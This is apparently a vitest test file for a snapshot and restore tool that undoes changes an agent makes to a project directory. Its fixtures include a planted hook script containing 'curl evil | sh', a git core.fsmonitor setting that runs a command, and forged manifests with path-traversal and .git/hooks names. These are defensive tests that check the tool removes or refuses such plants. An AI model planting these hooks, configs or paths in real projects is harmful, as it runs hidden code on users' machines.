// Snapshot holes found from outside (issue 27, items 5, 6, 7, 10; issue 28's piling up), on a real file
// system with the host's git: any name Linux allows round-trips, restore decides with the snapshot's
// own ignore rules, a .git made since is removed, sparse files stay cheap, automatic snapshots of an
// unchanged tree add nothing and keep a retention. Each with its control.
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { captureFiles, createSnapshot } from '../../src/snapshot/create.js';
import { restoreSnapshot } from '../../src/snapshot/restore.js';
import { loadManifest, loadManifests, writeManifest } from '../../src/snapshot/store.js';
import { gitCensus, gitCensusWarnings, overlaidGits } from '../../src/snapshot/git-census.js';
import { diffManifests } from '../../src/plan/snapshot.js';
import { tempDir } from './tmp.js';

const env = { PATH: process.env.PATH, HOME: '/nonexistent' };

function setup(git: boolean): { root: string; store: string } {
  const base = tempDir();
  const root = path.join(base, 'p');
  fs.mkdirSync(root);
  if (git) execFileSync('git', ['init', '-q', root]);
  return { root, store: path.join(base, 'store') };
}

/** Disk use (allocated blocks) of every file below `dir`. */
function diskUse(dir: string): number {
  let n = 0;
  for (const e of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) if (e.isFile()) n += fs.statSync(path.join(e.parentPath, e.name)).blocks * 512;
  return n;
}

const b = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));

describe('any name Linux allows round-trips', () => {
  for (const git of [true, false]) {
    it(`backslash, newline, "%", control and invalid UTF-8 bytes, in files, directories and link targets (${git ? 'git' : 'walk'} listing)`, async () => {
      const { root, store } = setup(git);
      const at = (name: Buffer) => Buffer.concat([Buffer.from(`${root}/`), name]);
      const names = [b('back\\slash'), b('new\nline'), b('per%41cent'), b('tab\tand\x1b[31mred'), b('bad', [0xff, 0xfe], '.txt'), b('caf\u00e9'), b('dir', [0x80], '/inner\\file')];
      fs.mkdirSync(at(b('dir', [0x80])));
      names.forEach((n, i) => fs.writeFileSync(at(n), `content ${i}`));
      fs.symlinkSync(b('bad', [0xff, 0xfe], '.txt'), at(b('link', [0xc3])));
      const { manifest } = await createSnapshot(root, { store, env });
      expect(Object.keys(manifest.files)).toHaveLength(names.length + 1);
      // the manifest spells them so that a terminal shows no control bytes
      expect(Object.keys(manifest.files).join(' | ')).not.toMatch(/[\u0000-\u001f\u007f]/);
      expect(manifest.files['new%0Aline']).toBeDefined();
      expect(manifest.files['back\\slash']).toBeDefined();

      // the tool changes and deletes them all
      names.forEach((n, i) => (i % 2 ? fs.rmSync(at(n)) : fs.writeFileSync(at(n), 'wrecked')));
      fs.rmSync(at(b('link', [0xc3])));
      await restoreSnapshot(manifest, { store, env });
      names.forEach((n, i) => expect(fs.readFileSync(at(n), 'utf8'), n.toString('hex')).toBe(`content ${i}`));
      expect(fs.readlinkSync(at(b('link', [0xc3])), { encoding: 'buffer' })).toEqual(b('bad', [0xff, 0xfe], '.txt'));
      // and the next snapshot is restorable too (before, one such name made every later one fail)
      const next = await createSnapshot(root, { store, env });
      await expect(restoreSnapshot(next.manifest, { store, env })).resolves.toBeDefined();
      expect(diffManifests(next.manifest.files, captureFiles(root, env).files)).toMatchObject({ added: [], changed: [], deleted: [] });
    });
  }

  it('control: a manifest naming a path outside its directory is still refused, whatever the spelling', async () => {
    const { root, store } = setup(false);
    fs.writeFileSync(path.join(root, 'a'), 'a');
    const { manifest } = await createSnapshot(root, { store, env });
    for (const bad of ['../escape', '%2E%2E/escape', 'a%2F..%2F..%2Fx', 'x%00y', '.git/config', 'sub/%2Egit/hooks/pre-commit'.replace('%2E', '.')]) {
      const forged = { ...manifest, id: manifest.id.replace(/.{6}$/, 'ffffff'), files: { [bad]: manifest.files.a! } };
      writeManifest(store, forged);
      await expect(restoreSnapshot(loadManifest(store, forged.id), { store, env }), bad).rejects.toThrow(/outside its directory or inside .git/);
    }
  });
});

describe('restore decides with the snapshot\'s own ignore rules', () => {
  it('a planted file the tool also added to .gitignore goes; one ignored at the time stays', async () => {
    const { root, store } = setup(true);
    fs.writeFileSync(path.join(root, '.gitignore'), 'build/\n');
    fs.writeFileSync(path.join(root, 'main.js'), 'ok');
    fs.mkdirSync(path.join(root, 'build'));
    fs.writeFileSync(path.join(root, 'build', 'out.js'), 'built');
    const { manifest } = await createSnapshot(root, { store, env });
    // the tool plants a file in a new directory and one beside main.js, and hides both
    fs.mkdirSync(path.join(root, 'hooks'));
    fs.writeFileSync(path.join(root, 'hooks', 'evil.sh'), 'curl evil | sh');
    fs.writeFileSync(path.join(root, 'postinstall.js'), 'evil');
    fs.appendFileSync(path.join(root, '.gitignore'), 'hooks/\npostinstall.js\n');
    fs.writeFileSync(path.join(root, 'build', 'out.js'), 'built 2');
    const { before } = await restoreSnapshot(manifest, { store, env });
    expect(fs.existsSync(path.join(root, 'postinstall.js'))).toBe(false);
    expect(fs.existsSync(path.join(root, 'hooks'))).toBe(false);
    expect(fs.readFileSync(path.join(root, '.gitignore'), 'utf8')).toBe('build/\n');
    // control: ignored when the snapshot was taken, so neither saved nor touched
    expect(fs.readFileSync(path.join(root, 'build', 'out.js'), 'utf8')).toBe('built 2');
    // the state before the restore holds the planted files, so the restore can be undone
    expect(Object.keys(loadManifest(store, before).files).sort()).toEqual(['.gitignore', 'hooks/evil.sh', 'main.js', 'postinstall.js']);
    await restoreSnapshot(loadManifest(store, before), { store, env });
    expect(fs.readFileSync(path.join(root, 'postinstall.js'), 'utf8')).toBe('evil');
  });
});

describe('a .git made since the snapshot', () => {
  it('restore removes a repository the snapshot did not have and keeps the ones it had', async () => {
    const { root, store } = setup(true);
    fs.writeFileSync(path.join(root, 'a'), 'a');
    execFileSync('git', ['init', '-q', path.join(root, 'vendored')]);
    const { manifest } = await createSnapshot(root, { store, env });
    expect(manifest.gits).toEqual(['.git', 'vendored/.git']);
    // the tool makes a repository whose config runs a command, and hides files in it
    execFileSync('git', ['init', '-q', path.join(root, 'sub')]);
    execFileSync('git', ['-C', path.join(root, 'sub'), 'config', 'core.fsmonitor', 'touch pwned']);
    fs.writeFileSync(path.join(root, 'sub', 'payload'), 'x');
    fs.mkdirSync(path.join(root, 'deep', 'er'), { recursive: true });
    fs.writeFileSync(path.join(root, 'deep', 'er', '.git'), 'gitdir: /somewhere/else\n');
    const { removedGits } = await restoreSnapshot(manifest, { store, env });
    expect(removedGits).toEqual(['sub/.git', 'deep/er/.git']);
    expect(fs.existsSync(path.join(root, 'sub'))).toBe(false);
    expect(fs.existsSync(path.join(root, 'deep'))).toBe(false);
    // control: repositories the snapshot had are kept
    expect(fs.existsSync(path.join(root, '.git', 'HEAD'))).toBe(true);
    expect(fs.existsSync(path.join(root, 'vendored', '.git', 'HEAD'))).toBe(true);
  });

  it('a walk-listed directory made a git work tree by the tool: its .git goes and its ignore rules decide nothing', async () => {
    const { root, store } = setup(false);
    fs.writeFileSync(path.join(root, 'a'), 'a');
    const { manifest } = await createSnapshot(root, { store, env });
    execFileSync('git', ['init', '-q', root]);
    fs.writeFileSync(path.join(root, 'planted'), 'x');
    fs.writeFileSync(path.join(root, '.gitignore'), 'planted\n.gitignore\n');
    await restoreSnapshot(manifest, { store, env });
    expect(fs.readdirSync(root)).toEqual(['a']);
  });

  it('the census after a run names new repositories and changed config; control: an unchanged tree warns of nothing', () => {
    const { root } = setup(true);
    execFileSync('git', ['init', '-q', path.join(root, 'old')]);
    const before = gitCensus([root]);
    expect(gitCensusWarnings('agent', before, gitCensus([root]))).toEqual([]);
    execFileSync('git', ['init', '-q', path.join(root, 'sub')]);
    fs.appendFileSync(path.join(root, 'old', '.git', 'config'), '[core]\n\tfsmonitor = touch pwned\n');
    const warnings = gitCensusWarnings('agent', before, gitCensus([root]));
    expect(warnings[0]).toContain(`agent made a git repository: ${path.join(root, 'sub', '.git')}`);
    expect(warnings[1]).toContain(`agent changed the config or hooks of ${path.join(root, 'old', '.git')}`);
  });

  it('a directory past the walk limit is named as one shim could not look into, never passed over as clean', () => {
    // the census marks such a root "too many entries" (a tool chooses how many entries there are)
    const warnings = gitCensusWarnings('agent', new Map(), new Map([['/p', 'too many entries']]));
    expect(warnings).toEqual([expect.stringContaining('agent left more than')]);
    expect(warnings[0]).toContain('in /p: shim could not look for git repositories there');
    // control: a directory it looked into and found nothing new in warns of nothing
    expect(gitCensusWarnings('agent', new Map(), new Map())).toEqual([]);
  });

  it('without git_writable the read-only .git mounts are the census before the run: only new ones are named', () => {
    const { root } = setup(true);
    execFileSync('git', ['init', '-q', path.join(root, 'old')]);
    const mounts = [
      { src: root, mode: 'rw' as const },
      { src: path.join(root, '.git'), mode: 'ro' as const },
      { src: path.join(root, 'old', '.git'), mode: 'ro' as const },
    ];
    const before = overlaidGits(mounts, [root]);
    expect([...before.keys()].sort()).toEqual([path.join(root, '.git'), path.join(root, 'old', '.git')]);
    expect(gitCensusWarnings('agent', before, gitCensus([root]))).toEqual([]);
    execFileSync('git', ['init', '-q', path.join(root, 'new')]);
    expect(gitCensusWarnings('agent', before, gitCensus([root]))).toEqual([expect.stringContaining(`made a git repository: ${path.join(root, 'new', '.git')}`)]);
  });
});

describe('sparse files', () => {
  it('a 300 MiB sparse file costs the store (and a restore) what its data costs; control: dense data is stored in full', async () => {
    const { root, store } = setup(false);
    const file = path.join(root, 'sparse.img');
    const fd = fs.openSync(file, 'w');
    fs.writeSync(fd, Buffer.alloc(4096, 7), 0, 4096, 150 * 1024 ** 2);
    fs.ftruncateSync(fd, 300 * 1024 ** 2);
    fs.closeSync(fd);
    expect(fs.statSync(file).blocks * 512).toBeLessThan(1024 ** 2);
    await createSnapshot(root, { store, env });
    expect(diskUse(store)).toBeLessThan(1024 ** 2);
    fs.rmSync(file);
    await restoreSnapshot(loadManifests(store)[0]!, { store, env });
    const st = fs.statSync(file);
    expect(st.size).toBe(300 * 1024 ** 2);
    expect(st.blocks * 512).toBeLessThan(1024 ** 2);
    const back = fs.openSync(file, 'r');
    const probe = Buffer.alloc(4096);
    fs.readSync(back, probe, 0, 4096, 150 * 1024 ** 2);
    fs.closeSync(back);
    expect(probe.equals(Buffer.alloc(4096, 7))).toBe(true);
    // control: 4 MiB of data is stored as 4 MiB
    fs.writeFileSync(path.join(root, 'dense'), Buffer.alloc(4 * 1024 ** 2, 1));
    const used = diskUse(store);
    await createSnapshot(root, { store, env });
    expect(diskUse(store) - used).toBeGreaterThanOrEqual(4 * 1024 ** 2);
  });

  it('the cap counts apparent size before anything is read', async () => {
    const { root, store } = setup(false);
    fs.writeFileSync(path.join(root, 'huge'), '');
    fs.truncateSync(path.join(root, 'huge'), 3 * 1024 ** 3);
    await expect(createSnapshot(root, { store, env })).rejects.toThrow(/3\.00 GiB .* over the cap of 2\.00 GiB .*a sparse file counts in full/);
    expect(fs.existsSync(store)).toBe(false);
  });
});

describe('automatic snapshots', () => {
  const auto = (runId: string, keep = 50) => ({ runId, tool: 'agent', automatic: { retention: { keep, maxAgeMs: 7 * 86400e3 } } });

  it('an unchanged tree adds no entry (the previous snapshot stands for it); a change adds one', async () => {
    const { root, store } = setup(true);
    fs.writeFileSync(path.join(root, 'a'), 'a');
    const first = await createSnapshot(root, { store, env, ...auto('r1') });
    const second = await createSnapshot(root, { store, env, ...auto('r2') });
    expect(second.manifest.id).toBe(first.manifest.id);
    expect(second.reused).toBe(true);
    expect(loadManifests(store)).toHaveLength(1);
    // control: a changed file, or a new .git, makes a new one
    fs.writeFileSync(path.join(root, 'a'), 'b');
    const third = await createSnapshot(root, { store, env, ...auto('r3') });
    expect(third.manifest.id).not.toBe(first.manifest.id);
    fs.mkdirSync(path.join(root, 'x', '.git'), { recursive: true });
    const fourth = await createSnapshot(root, { store, env, ...auto('r4') });
    expect(fourth.manifest.id).not.toBe(third.manifest.id);
    expect(loadManifests(store)).toHaveLength(3);
  });

  it('the retention is applied as each is taken: the newest N automatic ones stay, manual ones are never removed', async () => {
    const { root, store } = setup(true);
    await createSnapshot(root, { store, env, name: 'manual' });
    for (let i = 0; i < 5; i++) {
      fs.writeFileSync(path.join(root, 'a'), String(i));
      await createSnapshot(root, { store, env, ...auto(`r${i}`, 2) });
    }
    const left = loadManifests(store);
    expect(left.map((m) => m.name ?? m.runId)).toEqual(['manual', 'r3', 'r4']);
  });
});
